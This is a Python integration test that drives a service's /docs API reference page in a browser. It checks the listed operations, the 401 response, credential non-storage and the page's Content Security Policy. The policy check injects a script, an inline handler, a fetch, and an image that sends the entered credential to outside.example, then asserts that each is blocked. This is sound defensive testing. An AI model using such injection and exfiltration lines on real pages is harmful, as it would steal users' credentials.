"""`/docs` in a real browser: it shows every operation, asks nobody else, complains of nothing, and its policy holds."""

import json

from tests.integration.service.browser import tab


def test_the_page(service):
    with service.client() as client:
        document = client.get("/openapi.json").json()
    operations = sorted(f"{method.upper()} {path}" for path, methods in document["paths"].items() for method in methods)
    with tab() as page:
        page.call("Page.navigate", url=f"{service.url}/docs")
        page.wait("document.readyState === 'complete' && !!document.getElementById('ask')")
        # Nothing is asked before somebody says who they are.
        assert page.requests == [f"{service.url}/docs"]
        show = "document.getElementById('credential').value = {}; document.querySelector('#ask button').click()"
        page.evaluate(show.format(json.dumps("mfw_nobody")))
        page.wait("document.getElementById('said').textContent.includes('api key')")
        assert page.answered[f"{service.url}/openapi.json"] == 401
        # The browser itself says so of every 401, and it is the only complaint.
        assert all("401" in one for one in page.complaints), page.complaints
        page.complaints.clear()
        page.evaluate(show.format(json.dumps(service.key)))
        shown = page.wait(
            "[...document.querySelectorAll('#reference > details > summary')]"
            ".map((one) => [...one.querySelectorAll('code')].map((part) => part.textContent).join(' '))"
        )
        assert sorted(shown) == operations
        assert page.evaluate("document.getElementById('said').textContent") == ""
        # One of them opened: its members are there to read.
        text = page.evaluate(
            "(() => { const one = [...document.querySelectorAll('#reference > details')]"
            ".find((box) => box.textContent.startsWith('POST/v1/decisions ')); for (const box of [one, ...one.querySelectorAll('details')]) box.open = true; return one.innerText })()"
        )
        for word in ("subject", "resource", "change", "Idempotency-Key", "ledger_index"):
            assert word in text
        assert page.complaints == []
        assert {one.split("/")[2] for one in page.requests} == {service.url.removeprefix("http://")}
        # The credential went to one address, and stays nowhere.
        assert (
            page.evaluate("document.cookie + JSON.stringify(localStorage) + JSON.stringify(sessionStorage)") == "{}{}"
        )
        assert service.key not in page.evaluate("document.documentElement.outerHTML")

        # What the policy forbids does not happen, whoever gets a foot into the page.
        broken = page.evaluate(
            """(async () => {
              const seen = [];
              document.addEventListener('securitypolicyviolation', (one) => seen.push(one.effectiveDirective));
              const script = document.createElement('script');
              script.textContent = 'window.pwned = 1';
              document.body.append(script);
              const image = document.createElement('img');
              image.src = 'https://outside.example/pixel?' + document.getElementById('credential').value;
              document.body.append(image);
              const box = document.createElement('div');
              box.innerHTML = '<b onclick="window.pwned = 2" style="color: red">x</b>';
              document.body.append(box);
              box.firstChild.click();
              await fetch('https://outside.example/').catch(() => null);
              const all = ['connect-src', 'img-src', 'script-src-elem', 'script-src-attr', 'style-src-attr'];
              const ends = Date.now() + 30000;
              do await new Promise((done) => setTimeout(done, 50));
              while (Date.now() < ends && !all.every((one) => seen.includes(one)));
              return { seen: [...new Set(seen)].sort(), pwned: window.pwned || 0 };
            })()"""
        )
        assert broken["pwned"] == 0
        assert {"connect-src", "img-src", "script-src-elem", "script-src-attr", "style-src-attr"} <= set(broken["seen"])
        assert page.complaints
        assert {one.split("/")[2] for one in page.answered} == {service.url.removeprefix("http://")}
